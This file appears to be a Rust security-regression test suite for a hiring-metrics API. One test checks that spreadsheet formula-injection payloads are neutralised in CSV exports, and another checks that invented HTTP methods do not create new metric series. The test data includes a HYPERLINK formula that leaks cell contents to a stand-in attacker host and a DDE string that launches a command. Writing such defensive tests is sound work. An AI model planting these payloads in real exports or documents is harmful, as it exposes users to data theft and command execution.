//! Issue 16, hardening second round: each test shows a defect the review found, driven the way
//! an attacker or an unlucky operator would.

use serde_json::json;
use sqlx::PgPool;

use crate::helpers::{READ_TOKEN, TestApp};

/// Item 10: a name that starts a spreadsheet formula is served as text in every CSV answer,
/// and verbatim in JSON.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn csv_answers_never_carry_a_live_formula(pool: PgPool) {
    let app = TestApp::start(pool).await;
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    // Two departments, so the formula's one hires above the mean.
    let (status, body) =
        app.batch("departments", &json!([{"id": 1, "department": formula}, {"id": 2, "department": "Support"}])).await;
    assert_eq!(status, 200, "{body}");
    for (id, job) in [(1, "+1+cmd|' /C calc'!A0"), (2, "@SUM(1+1)"), (3, "-2+3"), (4, "\tTab"), (5, "Analyst")] {
        app.batch("jobs", &json!([{"id": id, "job": job}])).await;
    }
    let mut hires: Vec<_> = (1..=5)
        .map(|job| json!({"id": job, "name": format!("Ann {job}"), "datetime": "2021-02-01T00:00:00Z", "department_id": 1, "job_id": job}))
        .collect();
    hires.push(json!({"id": 6, "name": "Bo", "datetime": "2021-02-01T00:00:00Z", "department_id": 2, "job_id": 5}));
    assert_eq!(app.batch("hired_employees", &json!(hires)).await.0, 200);

    for path in ["/metrics/hires?year=2021&format=csv", "/metrics/departments?year=2021&format=csv"] {
        let text = app.client.get(app.url(path)).bearer_auth(READ_TOKEN).send().await.unwrap().text().await.unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: a live formula cell {cell:?} in\n{text}"
                );
            }
        }
        assert!(text.contains("'=HYPERLINK("), "{path}: the name is kept, as text:\n{text}");
    }
    let (_, json) = app.get_json("/metrics/hires?year=2021").await;
    assert!(json.to_string().contains(r#"=HYPERLINK(\"http://evil.example"#), "JSON stays verbatim: {json}");
}

/// Item 12: a client sending made-up methods cannot make new metric series.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn made_up_methods_fold_into_one_series(pool: PgPool) {
    let app = TestApp::start(pool).await;
    for n in 0..20 {
        let method = reqwest::Method::from_bytes(format!("X{n}METHOD").as_bytes()).unwrap();
        app.client.request(method, app.url("/health")).send().await.unwrap();
    }
    let text = app.client.get(app.url("/metrics")).bearer_auth(READ_TOKEN).send().await.unwrap().text().await.unwrap();
    assert!(!text.contains("METHOD\""), "a client's method became a label value:\n{text}");
    assert!(text.contains("method=\"other\""), "the unknown methods are counted as other:\n{text}");
}
